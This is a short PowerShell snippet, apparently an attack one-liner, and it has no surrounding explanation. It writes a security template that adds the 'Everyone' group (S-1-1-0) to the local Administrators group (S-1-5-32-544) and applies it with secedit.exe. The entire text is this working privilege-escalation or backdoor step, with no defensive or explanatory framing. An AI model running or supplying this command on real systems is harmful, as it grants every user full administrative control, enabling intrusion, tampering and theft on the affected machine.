@"
[Unicode]
Unicode=yes
[Group Membership]
*S-1-1-0__Memberof = *S-1-5-32-544
*S-1-1-0__Members =
[Version]
signature="`$CHICAGO`$"
"@ | Out-File C:\Windows\Temp\groups.inf -Encoding unicode
& secedit.exe /configure /db secedit.sdb /cfg C:\Windows\Temp\groups.inf
